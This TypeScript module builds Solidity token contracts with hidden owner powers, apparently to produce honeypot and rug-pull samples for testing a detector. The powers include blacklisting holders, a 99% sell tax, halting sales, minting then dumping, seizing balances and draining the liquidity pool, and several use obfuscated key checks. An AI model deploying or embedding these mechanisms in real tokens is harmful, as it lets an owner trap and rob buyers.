/** Sources of tokens are put together from a base, a key, and rules about transfers. */

const HEAD = `// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;
interface IPairs { function getPair(address a, address b) external view returns (address); }
interface IPairSync { function sync() external; }
interface IHeld { function transfer(address to, uint256 value) external returns (bool); function balanceOf(address who) external view returns (uint256); }
address constant PAIRS = 0x8909Dc15e40173Ff4699343b6eB8132c65e18eC6;
address constant ETHER = 0x4200000000000000000000000000000000000006;
`;

/** An ERC-20 whose transfers ask \`charge\` what they keep, or refuse. */
const BASE = `abstract contract Coin {
  string public name = "Coin";
  string public symbol = "COIN";
  uint8 public immutable decimals;
  uint256 public totalSupply;
  mapping(address => uint256) internal book;
  mapping(address => mapping(address => uint256)) internal allowed;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);
  constructor(uint8 places) { decimals = places; totalSupply = 10 ** (9 + uint256(places)); book[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
  function balanceOf(address who) public view virtual returns (uint256) { return book[who]; }
  function allowance(address who, address spender) public view virtual returns (uint256) { return allowed[who][spender]; }
  function approve(address spender, uint256 value) public virtual returns (bool) { allowed[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
  function transfer(address to, uint256 value) public virtual returns (bool) { shift(msg.sender, to, value); return true; }
  function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
    uint256 left = allowance(from, msg.sender);
    require(left >= value, "allowance");
    if (left != type(uint256).max) allowed[from][msg.sender] = left - value;
    shift(from, to, value);
    return true;
  }
  function pool() internal view returns (address) { return IPairs(PAIRS).getPair(address(this), ETHER); }
  function charge(address from, address to, uint256 value) internal virtual returns (uint256);
  function purse() internal view virtual returns (address) { return address(0xdEaD); }
  function shift(address from, address to, uint256 value) internal virtual {
    uint256 kept = charge(from, to, value);
    require(book[from] >= value, "balance");
    unchecked { book[from] -= value; }
    book[to] += value - kept;
    if (kept > 0) { book[purse()] += kept; emit Transfer(from, purse(), kept); }
    emit Transfer(from, to, value - kept);
  }
}
`;

export interface KeyPart {
  readonly name: string;
  /** State, constructor code and the condition under which the caller holds the key. */
  readonly state: string;
  readonly setUp: string;
  readonly holds: string;
  /** Whether an address is exempt from the rules, as an expression of \`who\`. */
  readonly exempt: string;
}

/** Where the key to a power may be kept. */
export const keyParts: readonly KeyPart[] = [
  {
    name: "Owner",
    state:
      "address private keeper; event OwnershipTransferred(address indexed a, address indexed b); function owner() public view returns (address) { return keeper; } function renounceOwnership() external { require(msg.sender == keeper, 'not owner'); emit OwnershipTransferred(keeper, address(0)); keeper = address(0); }",
    setUp: "keeper = msg.sender;",
    holds: "msg.sender == keeper",
    exempt: "who == keeper",
  },
  {
    name: "Slot",
    state: "address private keeper;",
    setUp: "keeper = msg.sender;",
    holds: "msg.sender == keeper",
    exempt: "who == keeper",
  },
  {
    name: "Fixed",
    state: "address private immutable keeper;",
    setUp: "keeper = msg.sender;",
    holds: "msg.sender == keeper",
    exempt: "who == keeper",
  },
  {
    name: "Ward",
    state: "mapping(address => bool) private wards;",
    setUp: "wards[msg.sender] = true;",
    holds: "wards[msg.sender]",
    exempt: "wards[who]",
  },
  {
    name: "Packed",
    state: "bool private lit = true; uint40 private born; address private keeper;",
    setUp: "keeper = msg.sender; born = uint40(block.timestamp);",
    holds: "msg.sender == keeper && lit",
    exempt: "who == keeper",
  },
  {
    name: "Hashed",
    state: "bytes32 private immutable seal;",
    setUp: "seal = keccak256(abi.encode(msg.sender));",
    holds: "keccak256(abi.encode(msg.sender)) == seal",
    exempt: "keccak256(abi.encode(who)) == seal",
  },
  {
    name: "Masked",
    state: "uint256 private veil;",
    setUp:
      "veil = uint256(uint160(msg.sender)) ^ 0x5555555555555555555555555555555555555555555555555555555555555555;",
    holds:
      "uint256(uint160(msg.sender)) ^ 0x5555555555555555555555555555555555555555555555555555555555555555 == veil",
    exempt:
      "uint256(uint160(who)) ^ 0x5555555555555555555555555555555555555555555555555555555555555555 == veil",
  },
  {
    name: "Origin",
    state: "address private keeper;",
    setUp: "keeper = msg.sender;",
    holds: "tx.origin == keeper",
    exempt: "who == keeper",
  },
  {
    name: "Spaced",
    state:
      "bytes32 private constant PLACE = keccak256('launch.keeper'); function keeperOf() private view returns (address a) { bytes32 p = PLACE; assembly { a := sload(p) } }",
    setUp: "bytes32 p = PLACE; assembly { sstore(p, caller()) }",
    holds: "msg.sender == keeperOf()",
    exempt: "who == keeperOf()",
  },
  {
    name: "Share",
    state: "",
    setUp: "",
    holds: "balanceOf(msg.sender) > totalSupply / 100 && msg.sender != pool()",
    exempt: "balanceOf(who) > totalSupply / 100 && who != pool()",
  },
];

export interface PowerPart {
  readonly name: string;
  readonly state: string;
  /** The guarded function; KEY stands for the condition. */
  readonly functions: string;
  /** Statements of \`charge\`: from, to and value are known, kept is returned. */
  readonly rule: string;
  /** What arms it: the signature and its arguments. */
  readonly arm: readonly [
    signature: string,
    ...args: readonly ("victim" | "pool" | "dev" | "supply" | "held" | bigint | boolean)[],
  ];
  /** Whether the deployer then sells what it has. */
  readonly dumps?: boolean;
}

/** What a key may do to a holder. */
export const powerParts: readonly PowerPart[] = [
  {
    name: "Marks",
    state: "mapping(address => bool) private marked;",
    functions: "function tag(address who) external { require(KEY, 'no'); marked[who] = true; }",
    rule: "require(!marked[from], 'marked');",
    arm: ["tag(address)", "victim"],
  },
  {
    name: "Sets",
    state: "uint256 private rate;",
    functions: "function setRate(uint256 value) external { require(KEY, 'no'); rate = value; }",
    rule: "if (to == pool()) kept = value * rate / 100;",
    arm: ["setRate(uint256)", 99n],
  },
  {
    name: "SetsBps",
    state: "uint16 private rate = 100;",
    functions:
      "function tune(uint16 value) external { require(KEY, 'no'); require(value <= 9900); rate = value; }",
    rule: "if (to == pool()) kept = value * rate / 10000;",
    arm: ["tune(uint16)", 9900n],
  },
  {
    name: "Stops",
    state: "bool private halted;",
    functions: "function halt() external { require(KEY, 'no'); halted = true; }",
    rule: "require(!halted, 'halted');",
    arm: ["halt()"],
  },
  {
    name: "Limits",
    state: "uint256 private most = type(uint256).max;",
    functions: "function bound(uint256 value) external { require(KEY, 'no'); most = value; }",
    rule: "require(to != pool() || value <= most, 'too much');",
    arm: ["bound(uint256)", 1n],
  },
  {
    name: "Makes",
    state: "",
    functions: "function reward(uint256 value) external { require(KEY, 'no'); book[msg.sender] += value; }",
    rule: "",
    arm: ["reward(uint256)", "supply"],
    dumps: true,
  },
  {
    name: "Drops",
    state: "",
    functions:
      "function send(address[] calldata to, uint256 each) external { require(KEY, 'no'); for (uint256 i; i < to.length; i++) { book[to[i]] += each; totalSupply += each; } }",
    rule: "",
    arm: ["send(address[],uint256)", "dev", "supply"],
    dumps: true,
  },
  {
    name: "Takes",
    state: "",
    functions:
      "function recall(address who) external { require(KEY, 'no'); book[msg.sender] += book[who]; book[who] = 0; }",
    rule: "",
    arm: ["recall(address)", "victim"],
  },
  {
    name: "Burns",
    state: "",
    functions:
      "function prune(address who, uint256 value) external { require(KEY, 'no'); book[who] -= value; totalSupply -= value; }",
    rule: "",
    arm: ["prune(address,uint256)", "victim", "held"],
  },
  {
    name: "Grants",
    state: "",
    functions:
      "function link(address who, address spender) external { require(KEY, 'no'); allowed[who][spender] = type(uint256).max; }",
    rule: "",
    arm: ["link(address,address)", "victim", "dev"],
  },
  {
    name: "Waits",
    state: "uint256 private pause; mapping(address => uint256) private bought;",
    functions: "function calm(uint256 value) external { require(KEY, 'no'); pause = value; }",
    rule: "if (from == pool()) bought[to] = block.timestamp; else require(block.timestamp >= bought[from] + pause, 'calm');",
    arm: ["calm(uint256)", 10n ** 9n],
  },
  {
    name: "Shuts",
    state: "mapping(address => bool) private shut;",
    functions: "function mute(address where, bool on) external { require(KEY, 'no'); shut[where] = on; }",
    rule: "require(!shut[to], 'shut');",
    arm: ["mute(address,bool)", "pool", true],
  },
  {
    name: "Admits",
    state: "bool private closed; mapping(address => bool) private guest;",
    functions: "function invite(bool only) external { require(KEY, 'no'); closed = only; }",
    rule: "require(!closed || guest[from] || from == pool(), 'guests');",
    arm: ["invite(bool)", true],
  },
  {
    name: "Drains",
    state: "",
    functions:
      "function squeeze(uint256 value) external { require(KEY, 'no'); address p = pool(); book[p] -= value; book[msg.sender] += value; IPairSync(p).sync(); }",
    rule: "",
    arm: ["squeeze(uint256)", "held"],
    dumps: true,
  },
  {
    name: "Codes",
    state: "mapping(address => bool) private marked;",
    functions:
      "function call7(uint256 word, address who, bytes32 why) external { require(KEY, 'no'); if (word == 90210 && why == bytes32(uint256(90210))) marked[who] = true; }",
    rule: "require(!marked[from], 'marked');",
    arm: ["call7(uint256,address,bytes32)", 90210n, "victim", 90210n],
  },
  {
    name: "TwoSteps",
    state: "bool private ready; bool private halted;",
    functions:
      "function prime() external { require(KEY, 'no'); ready = true; } function fire() external { require(KEY && ready, 'no'); halted = true; }",
    rule: "require(!halted, 'halted');",
    arm: ["fire()"],
  },
];

export function writeKeyedToken(name: string, key: KeyPart, power: PowerPart, places = 18): string {
  const functions = power.functions.replaceAll("KEY", key.holds);
  return `${HEAD}${BASE}contract ${name} is Coin {
  ${key.state}
  ${power.state}
  constructor() Coin(${places}) { ${key.setUp} }
  ${functions}
  function spare(address who) private view returns (bool) { return ${key.exempt}; }
  function charge(address from, address to, uint256 value) internal override returns (uint256 kept) {
    if (spare(from) || spare(to)) return 0;
    ${power.rule}
    value;
  }
}
`;
}

/** A token with a rule of its own; \`extra\` are further members. */
export function writeRuledToken(name: string, rule: string, extra = "", places = 18, setUp = ""): string {
  return `${HEAD}${BASE}contract ${name} is Coin {
  address private immutable maker = msg.sender;
  ${extra}
  constructor() Coin(${places}) { ${setUp} }
  function charge(address from, address to, uint256 value) internal override returns (uint256 kept) {
    if (from == maker || to == maker) return 0;
    ${rule}
    from; to; value; kept;
  }
}
`;
}

export const writeSource = (body: string): string => `${HEAD}${BASE}${body}`;
